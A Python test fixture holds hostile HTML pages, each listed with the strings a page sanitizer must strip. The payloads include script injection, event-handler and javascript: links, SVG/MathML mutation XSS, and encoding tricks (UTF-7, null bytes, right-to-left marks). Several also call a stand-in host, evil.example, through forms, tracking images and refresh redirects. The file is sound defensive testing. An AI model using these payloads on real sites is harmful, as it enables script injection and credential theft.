"""Pages that want to harm whoever looks at their source; each with what must not be left of it."""

from dataclasses import dataclass
from typing import Any

from index.raw_pages import raw_page
from pipeline.encoding import encode
from pipeline.records import Page, PagePart, Publisher
from tests.support.articles import NOON, enriched
from tests.support.desk_running import Running

SAFE = "东海碳市场本周成交活跃，配额收盘价每吨八十二元。"


@dataclass(frozen=True)
class Hostile:
    """A page's bytes, and strings that the shown page may not hold (lower case)."""

    name: str
    raw: bytes
    never: tuple[str, ...]


def page(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head>{head}</head><body><p>{SAFE}</p>{body}</body></html>".encode()


def made(name: str, body: str, *never: str, head: str = "") -> Hostile:
    return Hostile(name, page(body, head), never)


PAGES = [
    made(
        "script",
        "<script>alert(1)</script><script src=//evil.example/x.js></script>",
        "<script",
        "alert(",
        "evil.example",
    ),
    made("script in capitals", "<ScRiPt/x>alert(1)</sCrIpT>", "<script", "alert("),
    made("unclosed script", "<script>alert(1)", "<script", "alert("),
    made(
        "handlers",
        '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>x</p><body onload=alert(1)>',
        "onerror",
        "onclick",
        "onload",
        "alert(",
    ),
    made(
        "javascript link",
        '<a href="javascript:alert(1)">x</a><a href="JaVa\tScRiPt:alert(1)">y</a><a href="&#106;avascript:alert(1)">z</a>',
        "javascript",
        "alert(",
    ),
    made("data link", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:text", "alert("),
    made("vbscript link", '<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
    made(
        "svg",
        '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg",
        "alert(",
        "xlink",
    ),
    made(
        "svg picture",
        '<img src="data:image/svg+xml;base64,PHN2Zy8+"><object data=x.svg></object>',
        "data:image",
        "<object",
    ),
    made("math", '<math><mi//xlink:href="data:x,<script>alert(1)</script>"></math>', "<math", "alert("),
    made(
        "style element",
        "<style>body{background:url(https://evil.example/t.gif)}@import 'https://evil.example/a.css'</style>",
        "<style",
        "evil.example",
    ),
    made(
        "style attribute",
        '<p style="background:url(https://evil.example/t.gif);position:fixed;inset:0">x</p>',
        "style=",
        "evil.example",
    ),
    made(
        "remote pictures",
        '<img src="https://evil.example/t.gif" srcset="https://evil.example/2x.gif 2x"><picture><source srcset=//evil.example/p.webp></picture><input type=image src=//evil.example/i.gif>',
        "evil.example",
        "srcset",
    ),
    made(
        "background attribute",
        '<table background="//evil.example/b.gif"><tr><td background=//evil.example/c.gif>x</td></tr></table>',
        "evil.example",
    ),
    made(
        "meta refresh",
        "",
        "http-equiv",
        "evil.example",
        head='<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    made(
        "meta refresh in the body",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "http-equiv",
        "evil.example",
    ),
    made("base", '<img src="t.gif">', "<base", "evil.example", head='<base href="https://evil.example/">'),
    made(
        "form",
        '<form action="https://evil.example/"><input name=password type=password><button formaction=//evil.example/>登录</button></form>',
        "<form",
        "<input",
        "<button",
        "evil.example",
    ),
    made(
        "iframe",
        '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=//evil.example></frameset>',
        "<iframe",
        "srcdoc",
        "<frame",
        "evil.example",
    ),
    made(
        "objects",
        '<object data="//evil.example/x.swf"></object><embed src=//evil.example/x.swf><applet code=x></applet>',
        "<object",
        "<embed",
        "<applet",
        "evil.example",
    ),
    made(
        "media",
        "<video src=//evil.example/v.mp4 autoplay poster=//evil.example/p.jpg></video><audio src=//evil.example/a.mp3></audio>",
        "<video",
        "<audio",
        "evil.example",
    ),
    made(
        "links to loads",
        "",
        "<link",
        "evil.example",
        head="<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/><link rel=icon href=//evil.example/i.ico>",
    ),
    made(
        "mutation",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "onerror=",
        "alert(1)>",
    ),
    made(
        "comments",
        "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]--><?php echo 1 ?>",
        "<!--",
        "onerror",
        "<script",
    ),
    made(
        "names that hide ours",
        "<a id=main name=csrf class=skip></a><img name=body id=cookie>",
        "id=",
        "name=csrf",
        'class="skip',
    ),
    made(
        "fake marks",
        "<mark>没有采用的话</mark></main></body></html><script>alert(1)</script>",
        "<script",
        "alert(",
        "<mark>没有采用的话",
    ),
    Hostile(
        "broken utf-8",
        page("") + b"<p>\xff\xfe\xc3\x28\xed\xa0\x80\xf5<script>alert(1)</script>",
        ("<script", "alert("),
    ),
    Hostile("utf-7", b'<meta charset="utf-7">' + page("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), ("<script",)),
    Hostile(
        "utf-16", ("<html><body><p>" + SAFE + "</p><script>alert(1)</script>").encode("utf-16"), ("<script", "alert(")
    ),
    Hostile(
        "null bytes", page("<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>"), ("<script", "onerror", "\0")
    ),
    Hostile(
        "right-to-left marks", page("<p dir=rtl>\u202e\u2066gpj.exe\u202e</p><bdo dir=rtl>abc</bdo>"), ("dir=", "<bdo")
    ),
    Hostile("a megabyte of title", page("", "<title>" + "长" * 350_000 + "</title>"), ("<title>长",)),
    Hostile("a hundred thousand levels", page("<div>" * 100_000 + "x"), ("<script",)),
    Hostile("a hundred thousand links", page("<a href=x>" * 100_000), ("<script",)),
    Hostile("nothing", b"", ("<script",)),
    Hostile("no page at all", b"\x00\x01\x02" * 1000, ("<script", "\0")),
]


def keep(desk: Running, name: str, *raws: bytes, content_type: str = "", **article: Any) -> None:
    """An article in the store and the page that it came from in the files."""
    given = {"text": SAFE, "title": "碳市场周报", **article}
    desk.desk.store.put_articles([enriched(name, **given)])
    page = Page(
        id=name,
        url=f"http://x.example/{name}",
        canonical=f"http://x.example/{name}",
        publisher=Publisher(id="dhex", name="东海环境能源交易所"),
        fetched_at=given.get("fetched_at", NOON),
        first_seen=NOON,
        status=200,
        headers={"content-type": content_type},
        via="crawl",
        parts=tuple(PagePart.pack(f"http://x.example/{name}/{number}", raw) for number, raw in enumerate(raws)),
    )
    desk.desk.store.put_raw_pages([raw_page(page, desk.desk.files.put("pages", encode(page)))])
